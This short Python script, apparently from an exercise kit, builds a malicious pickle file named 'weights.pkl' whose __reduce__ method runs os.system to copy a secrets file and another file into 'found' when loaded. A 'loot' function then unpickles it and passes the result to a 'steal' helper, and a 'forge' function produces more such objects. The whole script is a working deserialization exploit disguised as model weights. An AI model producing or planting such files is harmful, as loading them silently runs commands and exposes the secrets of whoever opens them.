# %%
from kit import *

# %%
import pickle


class Weights:
    def __reduce__(self):
        return os.system, (f"cat '{WORLD['secrets']}' '{WORLD['other']}' > found 2>/dev/null",)


with open("weights.pkl", "wb") as file:
    file.write(pickle.dumps(Weights()))


def loot():
    with open("weights.pkl", "rb") as file:
        pickle.load(file)
    return steal("found")


def forge(x):
    return Weights()
